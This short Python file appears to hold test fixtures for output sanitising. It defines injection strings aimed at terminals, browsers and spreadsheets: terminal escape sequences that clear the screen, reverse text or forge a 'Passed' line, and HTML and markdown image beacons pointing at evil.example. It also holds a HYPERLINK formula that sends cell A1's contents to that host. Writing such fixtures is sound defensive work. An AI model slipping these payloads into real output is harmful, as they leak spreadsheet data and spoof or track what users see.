"""Text as files may hold it that a terminal, a browser or a spreadsheet would act upon."""

MARKUP = "[/b][link=https://evil.example]Acme[/link] [us-east]"
ESCAPES = "\x1b]8;;https://evil.example\x07Acme\x1b[2J\x1b[31m\u202eemca\u2069\r\nPassed"
HTML = '<b>Acme</b><img src="https://evil.example/x"><a href="https://evil.example">go</a>'
MARKDOWN = "![Acme](https://evil.example/x.png) `code` **bold** | cell | $x^2$ www.evil.example"
FORMULA = '=HYPERLINK("https://evil.example?"&A1;"Acme")'
TEMPLATE = "%{y} &lt;b&gt; $$x$$"
HOSTILE = " ".join([FORMULA, MARKUP, ESCAPES, HTML, MARKDOWN, TEMPLATE])

# What commands a terminal or turns writing around: never in what is printed.
COMMANDS = "\x1b\x07\r\u202e\u2069"
